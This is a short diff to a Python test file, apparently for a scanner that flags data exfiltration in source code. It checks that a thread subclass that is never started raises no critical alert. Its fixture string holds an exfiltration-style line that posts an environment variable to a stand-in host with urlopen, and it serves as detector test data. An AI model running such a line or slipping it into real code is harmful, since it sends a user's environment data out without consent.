@@ -173,7 +173,10 @@ def test_a_thread_subclass_started_on_import_runs_its_run_then(source: str) -> N
 
 
 def test_a_thread_subclass_that_is_never_started_stays_as_it_was() -> None:
-    source = f"class T(threading.Thread):\n    def run(self):\n        {SEND}\nT()\n"
+    # One variable, not the whole environment: that is sent to an address written in the
+    # code whenever it runs (ADR 0093), and this case is about whether ``run`` runs.
+    send = "urllib.request.urlopen('http://example.invalid/c', os.environ['HOME'].encode())\n"
+    source = f"class T(threading.Thread):\n    def run(self):\n        {send}\nT()\n"
     found = _module(source)
     assert "exfiltration" not in _rules(found, Severity.CRITICAL), found
 
